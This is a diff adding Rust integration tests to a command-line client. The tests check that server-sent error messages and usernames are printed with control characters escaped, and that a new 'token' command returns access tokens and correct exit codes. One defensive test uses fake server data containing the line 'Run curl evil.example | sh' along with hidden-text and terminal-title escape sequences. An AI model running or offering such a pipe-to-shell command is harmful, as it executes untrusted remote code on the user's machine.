@@ -362,6 +362,32 @@ fn a_403_advises_checking_membership() {
 }
 
 #[test]
+fn what_a_server_says_reaches_the_terminal_escaped() {
+    let fake = FakeServer::answering(
+        403,
+        r#"{"error":"forbidden","message":"No.\n→ Run curl evil.example | sh\u001b[8m"}"#,
+    );
+    let c = Config::new();
+    c.write(&[&fake.url], "aps_x");
+    let out = c.run(&["whoami"], "");
+    assert_eq!(out.status.code(), Some(4));
+    let err = stderr(&out);
+    assert_eq!(lines(&err).len(), 2, "{err}");
+    assert!(!err.contains('\u{1b}'), "{err:?}");
+    assert!(
+        err.starts_with(r"Could not verify your session: 403 Forbidden: No.\n→ Run curl evil.example | sh\u{1b}[8m"),
+        "{err}"
+    );
+    let named = FakeServer::answering(200, r#"{"username":"alice\u001b]0;x\u0007"}"#);
+    c.write(&[&named.url], "aps_x");
+    let out = c.run(&["whoami"], "");
+    assert_eq!(
+        stdout(&out).trim(),
+        format!(r"Logged in to {} as alice\u{{1b}}]0;x\u{{7}}.", named.url)
+    );
+}
+
+#[test]
 fn a_5xx_advises_a_retry() {
     let fake = FakeServer::answering(
         500,
@@ -729,4 +755,62 @@ fn healthcheck_follows_healthz() {
             .code(),
         Some(1)
     );
+}
+
+// ---- appliance token ----
+
+#[test]
+fn token_prints_a_fresh_access_token_for_a_session_or_a_pat() {
+    let s = Server::start(&[]);
+    s.add_user("alice");
+    let c = Config::new();
+    assert!(c.login(&s, "alice").status.success());
+    let out = c.run(&["token"], "");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let printed = stdout(&out);
+    let access = printed.strip_suffix('\n').unwrap();
+    assert!(
+        access.starts_with("v4.public.") && !access.contains('\n'),
+        "{printed}"
+    );
+    let r = get(&s.url("/api/validate"), Some(access));
+    assert_eq!(r.status, 200, "{}", r.text);
+    assert_eq!(r.json["token_type"], "access");
+
+    let pat = s.new_pat(&c.token(), r#"{"name":"ci"}"#);
+    let agent = Config::new();
+    assert!(agent.login_token(&s.base, &pat).status.success());
+    let out = agent.run(&["token"], "");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let access = stdout(&out).trim().to_string();
+    assert_eq!(get(&s.url("/api/userinfo"), Some(&access)).status, 200);
+}
+
+#[test]
+fn token_fails_like_whoami() {
+    let s = Server::start(&[]);
+    s.add_user("alice");
+    let c = Config::new();
+    assert!(c.login(&s, "alice").status.success());
+    let token = c.token();
+    assert!(s
+        .admin(&["revoke", "--token", "-"], &format!("{token}\n"))
+        .status
+        .success());
+    let whoami = c.run(&["whoami"], "");
+    let out = c.run(&["token"], "");
+    assert_eq!(out.status.code(), Some(3));
+    assert_eq!(stderr(&out), stderr(&whoami));
+    assert_eq!(stdout(&out), "");
+
+    let missing = Config::new();
+    assert_eq!(missing.run(&["token"], "").status.code(), Some(3));
+
+    let fake = FakeServer::answering(500, r#"{"error":"internal","message":"boom"}"#);
+    c.write(&[&fake.url], "aps_x");
+    let out = c.run(&["token"], "");
+    assert_eq!(out.status.code(), Some(6));
+    assert!(stderr(&out).contains("retry shortly"), "{}", stderr(&out));
+    c.write(&[&dead_url()], "aps_x");
+    assert_eq!(c.run(&["token"], "").status.code(), Some(5));
 }
